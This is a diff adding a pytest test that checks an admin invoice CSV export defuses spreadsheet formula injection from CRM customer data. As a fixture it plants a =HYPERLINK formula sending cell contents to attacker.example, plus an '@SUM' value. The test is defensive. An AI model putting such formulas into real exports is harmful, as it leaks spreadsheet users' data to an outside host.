@@ -188,3 +188,28 @@ def test_a_request_under_way_at_logout_does_not_resurrect_the_session(make_app, 
     replayed = app.test_client()
     replayed.set_cookie("bridge_admin", cookie, path="/admin")
     assert replayed.get("/admin/").status_code == 302
+
+
+# --- 5. no formulas in the CSV ---------------------------------------------------------------
+
+
+def test_the_csv_neutralizes_formulas_from_the_crm(app, crm_headers, tourwell, finan):
+    """The attack: a customer named =HYPERLINK(...) in the CRM became a live formula in the
+    operators' spreadsheet."""
+    import csv as csv_module
+    import io
+
+    from helpers import issue
+
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    with tourwell.state.lock:
+        tourwell.state.invoices[17]["order_info"]["customer"]["name"] = formula
+        tourwell.state.invoices[17]["code"] = "@SUM(1+1)"
+    client = app.test_client()
+    assert issue(client, crm_headers).status_code == 201
+    assert log_in(client).status_code == 303
+    body = client.get("/admin/invoices.csv?lang=en").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv_module.reader(io.StringIO(body)))
+    (row,) = [row for row in rows[1:] if row[0] == "17"]
+    assert row[1] == "'@SUM(1+1)" and row[2] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
